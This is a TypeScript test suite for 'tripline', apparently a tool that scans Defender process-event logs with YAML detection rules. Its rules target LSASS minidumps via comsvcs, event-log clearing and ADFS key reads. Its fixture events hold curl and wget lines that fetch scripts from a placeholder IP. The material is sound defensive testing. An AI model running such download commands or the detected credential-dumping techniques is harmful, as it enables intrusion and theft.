import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { assertBuilt, ROOT, tripline } from './helpers.js';

const RULES = join(ROOT, 'examples/rules');

beforeAll(() => {
  assertBuilt();
});

function temp(): string {
  return mkdtempSync(join(tmpdir(), 'tripline-rules-'));
}

/** A fixture's records as an NDJSON export (what `tripline analyze` reads). */
function fixtureAsExport(fixture: string, dir: string): string {
  const { records } = JSON.parse(readFileSync(fixture, 'utf8')) as { records: unknown[] };
  const out = join(dir, `${basename(fixture, '.json')}.ndjson`);
  writeFileSync(out, `${records.map((r) => JSON.stringify(r)).join('\n')}\n`);
  return out;
}

interface JsonAlert {
  detectorId: string;
}

/** A minimal detector as a vendor module would export it (plain objects: no import needed). */
const DETECTOR_SRC = (id: string) => `{
  meta: {
    id: '${id}', title: 'Vendor test detector', summary: 'Fires on every DeviceProcessEvents row.',
    rationale: 'A detector used by the CLI tests.', severity: 'low', category: 'Testing', mitre: [],
    tables: ['DeviceProcessEvents'],
    messages: { default: { title: 'vendor hit', description: 'a process', riskAssessment: 'none' } },
  },
  match: () => ({}),
  render: () => ({ values: {}, keyComponents: {} }),
}`;

describe.concurrent('every example rule through the CLI', () => {
  const rules = readdirSync(RULES)
    .filter((f) => f.endsWith('.yaml'))
    .sort();
  const fixtures = readdirSync(RULES)
    .filter((f) => /\.(fires|ignores)\..+\.json$/.test(f))
    .sort();

  it('has six rules or more, each with fires and ignores fixtures', () => {
    expect(rules.length).toBeGreaterThanOrEqual(6);
    for (const rule of rules) {
      const base = rule.replace(/\.yaml$/, '');
      expect(fixtures.some((f) => f.startsWith(`${base}.fires.`))).toBe(true);
      expect(fixtures.some((f) => f.startsWith(`${base}.ignores.`))).toBe(true);
    }
  });

  it.each(fixtures)('analyze --rules --no-builtin %s', async (fixture) => {
    const dir = temp();
    const base = fixture.slice(0, fixture.search(/\.(fires|ignores)\./));
    const rule = join(RULES, `${base}.yaml`);
    const id = `example/${base}`;
    const input = fixtureAsExport(join(RULES, fixture), dir);
    const r = await tripline(['analyze', '--rules', rule, '--no-builtin', '--format', 'json', '--no-progress', input]);
    expect(r.code, r.stderr).toBe(0);
    const alerts = (JSON.parse(r.stdout) as { alerts: JsonAlert[] }).alerts.filter((a) => a.detectorId === id);
    if (fixture.includes('.fires.')) expect(alerts.length).toBeGreaterThan(0);
    else expect(alerts).toEqual([]);
  });
});

describe.concurrent('tripline rules check', () => {
  it('exit 0 on the example rules; --format json lists each rule and fixture', async () => {
    const r = await tripline(['rules', 'check', '--format', 'json', RULES]);
    expect(r.code, r.stdout).toBe(0);
    const out = JSON.parse(r.stdout) as { ok: boolean; rules: { id: string; ok: boolean; fixtures: unknown[] }[] };
    expect(out.ok).toBe(true);
    expect(out.rules.map((x) => x.id)).toContain('example/adfs-dkm-key-read');
    for (const rule of out.rules) expect(rule.fixtures.length).toBeGreaterThanOrEqual(2);
  });

  it('exit 1 when a fixture fails, naming the rule and the fixture', async () => {
    const dir = temp();
    const text = readFileSync(join(RULES, 'security-log-cleared.yaml'), 'utf8');
    // The ignores fixture of the rule now fires: wevtutil qe is matched too.
    writeFileSync(
      join(dir, 'log.yaml'),
      text.replace("regex: '\\s(?:cl|clear-log)\\s+\\S'", "regex: '\\s(?:cl|qe|clear-log)\\s+\\S'"),
    );
    for (const f of readdirSync(RULES).filter((n) => n.startsWith('security-log-cleared.'))) {
      if (f.endsWith('.json'))
        writeFileSync(join(dir, f.replace('security-log-cleared.', 'log.')), readFileSync(join(RULES, f)));
    }
    const r = await tripline(['rules', 'check', dir]);
    expect(r.code, r.stdout).toBe(1);
    expect(r.stdout).toMatch(/^FAIL {2}example\/security-log-cleared/m);
    expect(r.stdout).toContain('ignores log.ignores.query-and-export.json: expected no alert, got 1');
  });

  it('exit 2 on a load error: file, line, column and field', async () => {
    const dir = temp();
    writeFileSync(
      join(dir, 'typo.yaml'),
      readFileSync(join(RULES, 'lsass-minidump-comsvcs.yaml'), 'utf8').replace(
        '    contains: comsvcs',
        '    contians: comsvcs',
      ),
    );
    const r = await tripline(['rules', 'check', dir]);
    expect(r.code).toBe(2);
    expect(r.stdout).toContain(
      `${join(dir, 'typo.yaml')}:19:5: where.ProcessCommandLine.contians: unknown operator "contians"`,
    );
    const j = await tripline(['rules', 'check', '--format', 'json', dir]);
    expect(JSON.parse(j.stdout).errors[0]).toMatchObject({
      line: 19,
      column: 5,
      field: 'where.ProcessCommandLine.contians',
    });
  });

  it('a catastrophic regex in a rule is an ordinary, fast scan (RE2)', async () => {
    const dir = temp();
    const rule = readFileSync(join(RULES, 'lsass-minidump-comsvcs.yaml'), 'utf8').replace(
      "regex: '(?:minidump|#\\s*24)\\b'",
      () => "regex: '(a+)+$'",
    );
    writeFileSync(join(dir, 'redos.yaml'), rule);
    const fixture = JSON.parse(
      readFileSync(join(RULES, 'lsass-minidump-comsvcs.fires.rundll32-minidump.json'), 'utf8'),
    );
    fixture.records[0].properties.ProcessCommandLine = `rundll32 comsvcs ${'a'.repeat(50_000)}!`;
    writeFileSync(join(dir, 'events.ndjson'), `${JSON.stringify(fixture.records[0])}\n`);
    const r = await tripline([
      'analyze',
      '--no-builtin',
      '--rules',
      join(dir, 'redos.yaml'),
      '--format',
      'json',
      join(dir, 'events.ndjson'),
    ]);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).alerts).toEqual([]);
  });
});

describe.concurrent('--detectors, config rules/modules/builtin, tripline detectors', () => {
  it('a module path exporting an array; detectors --format json names every origin', async () => {
    const dir = temp();
    writeFileSync(join(dir, 'pack.mjs'), `export default [${DETECTOR_SRC('acme/vendor-hit')}];\n`);
    const r = await tripline(['detectors', '--format', 'json', '--detectors', './pack.mjs', '--rules', RULES], {
      cwd: dir,
    });
    expect(r.code, r.stderr).toBe(0);
    const list = JSON.parse(r.stdout) as { id: string; origin: string; originKind: string }[];
    expect(list.find((d) => d.id === 'acme/vendor-hit')).toMatchObject({ origin: './pack.mjs', originKind: 'module' });
    expect(list.find((d) => d.id === 'example/rdp-brute-force')).toMatchObject({
      origin: join(RULES, 'rdp-brute-force.yaml'),
      originKind: 'rule',
    });
    expect(list.find((d) => d.id === 'defender/root-cron-logon')).toMatchObject({ originKind: 'builtin' });
  });

  it('an npm package name is resolved from the current folder (an ESM-only package)', async () => {
    const dir = temp();
    const pkg = join(dir, 'node_modules/@acme/tripline-pack');
    mkdirSync(pkg, { recursive: true });
    writeFileSync(
      join(pkg, 'package.json'),
      JSON.stringify({ name: '@acme/tripline-pack', type: 'module', exports: { '.': { import: './index.js' } } }),
    );
    writeFileSync(join(pkg, 'index.js'), `export const acmeHit = ${DETECTOR_SRC('acme/pkg-hit')};\n`);
    const r = await tripline(['detectors', '--no-builtin', '--detectors', '@acme/tripline-pack'], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^acme\/pkg-hit\s+low\s+-\s+DeviceProcessEvents\s+@acme\/tripline-pack$/m);
  });

  it('a module that exports no detectors is an error naming it and what it exports', async () => {
    const dir = temp();
    writeFileSync(join(dir, 'bad.mjs'), 'export const version = "1"; export default { hello: 1 };\n');
    const r = await tripline(['detectors', '--detectors', './bad.mjs'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('tripline: detector module ./bad.mjs exports no detectors');
    expect(r.stderr).toContain('version (a string)');
  });

  it('two detectors with one id: an error naming both origins', async () => {
    const dir = temp();
    writeFileSync(join(dir, 'dup.mjs'), `export default ${DETECTOR_SRC('defender/root-cron-logon')};\n`);
    const r = await tripline(['detectors', '--detectors', './dup.mjs'], { cwd: dir });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(
      'tripline: two detectors have the id defender/root-cron-logon: one from builtin, one from ./dup.mjs',
    );
  });

  it('config rules/modules are relative to the config file; builtin: false runs only those', async () => {
    const dir = temp();
    mkdirSync(join(dir, 'conf/rules'), { recursive: true });
    writeFileSync(join(dir, 'conf/rules/adfs.yaml'), readFileSync(join(RULES, 'adfs-dkm-key-read.yaml')));
    writeFileSync(join(dir, 'conf/pack.mjs'), `export const detectors = [${DETECTOR_SRC('acme/vendor-hit')}];\n`);
    writeFileSync(
      join(dir, 'conf/tripline.yaml'),
      'builtin: false\nrules: [rules]\nmodules: [./pack.mjs]\ndetectors:\n  example/adfs-dkm-key-read: { severity: low }\n',
    );
    const list = await tripline(['detectors', '--json', '-c', 'conf/tripline.yaml'], { cwd: dir });
    expect(list.code, list.stderr).toBe(0);
    expect((JSON.parse(list.stdout) as { id: string }[]).map((d) => d.id)).toEqual([
      'acme/vendor-hit',
      'example/adfs-dkm-key-read',
    ]);
    const input = fixtureAsExport(join(RULES, 'adfs-dkm-key-read.fires.unknown-tool-high.json'), dir);
    const r = await tripline(['analyze', '-c', 'conf/tripline.yaml', '--format', 'json', input], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    const alerts = (JSON.parse(r.stdout) as { alerts: { detectorId: string; severity: string }[] }).alerts;
    expect(alerts).toEqual([expect.objectContaining({ detectorId: 'example/adfs-dkm-key-read', severity: 'low' })]);
  });

  /** A detector family as a rule engine's module exports it: two members, one matchAll. */
  const FAMILY_SRC = `(() => {
    const member = (id, word) => ({
      meta: {
        id, title: 'Family member ' + word, summary: 'A command line holding a given word.',
        rationale: 'A family used by the CLI tests.', severity: 'medium', category: 'Testing', mitre: [],
        tables: ['DeviceProcessEvents'],
        messages: { default: { title: 'saw ' + word, description: 'a process', riskAssessment: 'none' } },
      },
      match: (e) => ((e.str('ProcessCommandLine') ?? '').includes(word) ? {} : undefined),
    });
    const members = [member('acme/fam-curl', 'curl'), member('acme/fam-wget', 'wget')];
    return {
      kind: 'detector-family', id: 'acme', members, tables: ['DeviceProcessEvents'],
      matchAll: (e, emit) => members.forEach((m, i) => { const r = m.match(e); if (r) emit(i, r); }),
    };
  })()`;

  it.each([
    ['a default export', `export default ${FAMILY_SRC};`],
    ['a named detectors array', `export const detectors = [${FAMILY_SRC}];`],
    ['a preset', `export default { name: 'acme', detectors: [${FAMILY_SRC}, ${DETECTOR_SRC('acme/vendor-hit')}] };`],
  ])('a detector family as %s: detectors lists its members, analyze runs them', async (_what, src) => {
    const dir = temp();
    writeFileSync(join(dir, 'family.mjs'), `${src}\n`);
    const list = await tripline(['detectors', '--json', '--no-builtin', '--detectors', './family.mjs'], { cwd: dir });
    expect(list.code, list.stderr).toBe(0);
    const listed = (JSON.parse(list.stdout) as { id: string; origin: string; originKind: string }[]).filter((d) =>
      d.id.startsWith('acme/fam-'),
    );
    expect(listed).toEqual([
      expect.objectContaining({ id: 'acme/fam-curl', origin: './family.mjs', originKind: 'module' }),
      expect.objectContaining({ id: 'acme/fam-wget', origin: './family.mjs', originKind: 'module' }),
    ]);
    const row = (cmd: string, id: number) =>
      JSON.stringify({
        Timestamp: '2025-11-07T06:46:38.299848Z',
        DeviceId: '875524232b2377b606ca585f2a6692b5be921b94',
        DeviceName: 'wazuh1',
        ActionType: 'ProcessCreated',
        ReportId: id,
        FileName: cmd.split(' ')[0],
        ProcessCommandLine: cmd,
        Type: 'DeviceProcessEvents',
      });
    writeFileSync(
      join(dir, 'events.ndjson'),
      `${row('curl -fsSL http://203.0.113.7/x.sh', 1)}\n${row('wget -q http://203.0.113.7/y', 2)}\n`,
    );
    writeFileSync(join(dir, 'tripline.yaml'), 'detectors:\n  acme/fam-wget: { enabled: false }\n');
    const r = await tripline(
      [
        'analyze',
        '--no-builtin',
        '--detectors',
        './family.mjs',
        '-c',
        'tripline.yaml',
        '--format',
        'json',
        'events.ndjson',
      ],
      { cwd: dir },
    );
    expect(r.code, r.stderr).toBe(0);
    const report = JSON.parse(r.stdout) as { alerts: JsonAlert[]; diagnostics: unknown[] };
    expect(report.alerts.map((a) => a.detectorId).filter((id) => id.startsWith('acme/fam-'))).toEqual([
      'acme/fam-curl',
    ]);
    expect(report.diagnostics).toEqual([]);
  });

  it('--no-builtin with nothing else is an error, not an empty run', async () => {
    const r = await tripline(['detectors', '--no-builtin']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('no detectors to run');
  });
});
